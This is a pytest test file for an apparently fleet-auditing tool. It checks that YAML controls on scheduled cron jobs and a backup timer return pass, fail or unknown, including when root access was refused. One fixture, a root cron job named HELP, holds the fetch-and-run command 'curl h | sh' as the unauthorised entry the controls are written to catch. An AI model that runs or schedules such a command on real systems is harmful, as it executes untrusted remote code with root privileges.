"""A control can judge what runs by itself; where it could not be read nobody passes."""

from __future__ import annotations

import msgspec
import pytest

from storefleet.model.state import Missing

CONTROLS = """
  - id: SOURCES
    title: only what we know is scheduled
    severity: high
    at: /security/jobs/*/source
    absent: pass
    schema: {enum: [/etc/crontab, /etc/cron.d/pos]}
  - id: NO-HELP
    title: nobody's help is scheduled
    severity: high
    at: "/security/jobs[source=/etc/cron.d/help]"
    absent: pass
    schema: false
  - id: SYNC
    title: the journal is brought in each night
    severity: high
    at: /security/jobs
    schema: {containsAll: [{source: /etc/cron.d/pos, when: "0 2 * * *", user: pos}]}
  - id: TIMER
    title: the backup runs daily
    severity: high
    at: /services/backup.timer/when
    schema: {subsetOf: [OnCalendar=daily]}
"""
POS = {"source": "/etc/cron.d/pos", "when": "0 2 * * *", "user": "pos", "command": "sync"}
HELP = {"source": "/etc/cron.d/help", "when": "*/5 * * * *", "user": "root", "command": "curl h | sh"}
TIMER = {"backup.timer": {"active": "active", "sub": "waiting", "enabled": "enabled", "when": ["OnCalendar=daily"]}}


@pytest.mark.parametrize(
    ("facts", "missing", "states"),
    [
        ({"security": {"jobs": [POS]}, "services": TIMER}, (), "pass pass pass pass"),
        ({"security": {"jobs": [POS, HELP]}, "services": TIMER}, (), "fail fail pass pass"),
        ({"security": {"jobs": []}, "services": {}}, (), "pass pass fail fail"),
        ({"security": {}, "services": {}}, ("/security/jobs", "/services"), "unknown unknown unknown unknown"),
        ({"security": {"jobs": [POS]}, "services": TIMER}, ("/security/jobs",), "unknown unknown unknown pass"),
        ({"security": {"jobs": [HELP]}, "services": TIMER}, ("/security/jobs",), "fail fail unknown pass"),
    ],
)
def test_a_control_judges_what_is_scheduled(audit_of, judged, till, facts, missing, states):
    gaps = tuple(Missing(path, "needs root (sudo refused)") for path in missing)
    document = msgspec.structs.replace(till.DOCUMENT, facts=facts, missing=gaps)
    assert " ".join(result.state for result in judged(audit_of(CONTROLS), document)) == states
